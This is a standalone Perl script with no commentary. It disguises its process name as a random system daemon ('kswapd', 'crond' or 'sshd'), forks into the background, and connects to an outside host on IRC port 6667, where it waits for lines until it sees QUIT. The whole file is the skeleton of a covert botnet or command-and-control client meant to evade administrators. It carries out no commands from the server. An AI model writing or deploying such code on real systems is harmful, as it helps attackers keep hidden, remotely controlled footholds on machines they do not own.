#!/usr/bin/perl
use IO::Socket;
my @cover = ("kswapd", "crond", "sshd");
$0 = $cover[int rand scalar @cover];
exit if fork;
my $c = IO::Socket::INET->new(PeerAddr => "192.0.2.3:6667");
while (<$c>) { last if /^QUIT/; }
